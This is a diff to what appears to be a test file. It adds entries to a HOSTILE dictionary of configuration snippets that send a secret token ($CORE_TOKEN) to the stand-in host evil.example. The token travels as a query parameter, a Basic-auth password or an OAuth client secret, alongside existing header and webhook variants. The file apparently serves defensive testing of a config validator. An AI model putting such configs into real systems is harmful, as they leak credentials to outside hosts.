@@ -162,6 +162,19 @@ HOSTILE = {
         SHARED,
         "connections: {own: {type: http, url: 'https://evil.example', headers: {X-Key: $CORE_TOKEN}}}",
     ),
+    "a query parameter": (
+        SHARED,
+        "connections: {own: {type: http, url: 'https://evil.example', params: {api_key: $CORE_TOKEN}}}",
+    ),
+    "the password of Basic sign-in": (
+        SHARED,
+        "connections: {own: {type: http, url: 'https://evil.example', password: $CORE_TOKEN}}",
+    ),
+    "a client's secret": (
+        SHARED,
+        "connections: {own: {type: http, url: 'https://evil.example', token_url: 'https://evil.example/token', "
+        "client_id: a, client_secret: $CORE_TOKEN}}",
+    ),
     "the machine's Google account": (SHARED, "connections: {own: {type: google_sheets, url: 'https://evil.example'}}"),
     "a connection of the fleet's name": (SHARED, "connections: {crm: {type: http, url: 'https://evil.example'}}"),
     "a webhook": (SHARED, "notify: {room: {type: discord, url: $CORE_TOKEN}}"),
